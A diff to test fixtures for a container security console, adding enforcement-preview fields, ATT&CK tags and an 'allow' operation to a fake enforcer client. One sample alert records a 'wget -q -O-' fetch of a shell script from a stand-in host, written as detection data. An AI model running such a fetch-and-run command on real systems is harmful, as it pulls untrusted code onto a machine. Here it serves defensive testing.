@@ -79,12 +79,12 @@ def incident(i: int, c: dict[str, Any], kind: str = "process", severity: str = "
             "container_id": c["id"], "image": c["image"], "kind": kind, "severity": severity,
             "summary": summary or f"unexpected {kind} #{i}", "detail": detail or {"pid": 4000 + i, "path": f"/bin/x{i}"},
             "action": "alerted", "count": count, "first_seen": iso(NOW - 900 + i), "last_seen": t,
-            "subject": f"/bin/x{i}", "rule": "profile"}
+            "subject": f"/bin/x{i}", "rule": "profile", "would": None, "tags": [], "resolved": ""}
 
 
 def sample_incidents(containers: list[dict[str, Any]]) -> list[dict[str, Any]]:
     web, _, _, api, _, evil = containers
-    return [
+    rows = [
         incident(1, web, "process", "high", 3, "unexpected process /usr/bin/wget",
                  {"path": "/usr/bin/wget", "sha256": "9f" * 32, "pid": 4411, "ppid": 4402,
                   "argv": ["wget", "-q", "-O-", "http://10.9.8.7/x.sh"]}),
@@ -95,6 +95,11 @@ def sample_incidents(containers: list[dict[str, Any]]) -> list[dict[str, Any]]:
                  {"indicator": "10.9.8.7", "feed": "feodotracker", "peer": "10.9.8.7", "note": HOSTILE}),
         incident(5, api, "syscall", "high", 2, "dangerous syscall unshare", {"syscall": "unshare", "pid": 5150}),
     ]
+    # Alert mode's dry run of protect, and ATT&CK techniques, as the enforcer sends them.
+    rows[0].update(would="killed", tags=["T1105"], subject="/usr/bin/wget")
+    rows[1].update(would="blocked", tags=["T1210"])
+    rows[4].update(tags=["T1611"], rule="research:dangerous-syscall")
+    return rows
 
 
 def sample_feeds() -> list[dict[str, Any]]:
@@ -241,8 +246,26 @@ class FakeEnforcerClient:
         if op == "block":
             return {"id": 1, "container": args.get("target"), "peer": args.get("peer"), "port": args.get("port"),
                     "proto": "tcp", "created": iso(NOW), "reason": "console"}
+        if op == "mode" and args.get("preview"):
+            stops = [{"id": a["id"], "container": a["container"], "kind": a["kind"], "subject": a.get("subject", ""),
+                      "summary": a["summary"], "would": a["would"], "count": a["count"], "last_seen": a["time"]}
+                     for a in self.incidents if a.get("would")
+                     and (a["container_id"] == args.get("target") or a["app"] == args.get("target"))]
+            return {"target": args.get("target"), "scope": args.get("scope"), "mode": args.get("mode"),
+                    "preview": True, "window": 86400.0, "would_stop": stops}
         if op == "mode":
             return {"target": args.get("target"), "scope": args.get("scope"), "mode": args.get("mode")}
+        if op == "allow":
+            a = next((a for a in self.incidents if a["id"] == args.get("alert_id")), None)
+            if a is None:
+                raise ProtocolError(f"no alert {args.get('alert_id')}", protocol.NOT_FOUND)
+            allowed = f"run {a.get('subject') or a['summary']}"
+            if args.get("dry_run"):
+                return {"alert_id": a["id"], "profile": 7, "app": a["app"], "service": a["service"],
+                        "allowed": allowed, "dry_run": True}
+            a["resolved"] = "allowed by root at " + iso(NOW)
+            return {"alert_id": a["id"], "profile": 7, "app": a["app"], "service": a["service"], "allowed": allowed,
+                    "new": True, "resolved": a["resolved"]}
         if op == "relearn":
             return {"profiles": [7]}
         if op == "forensics":
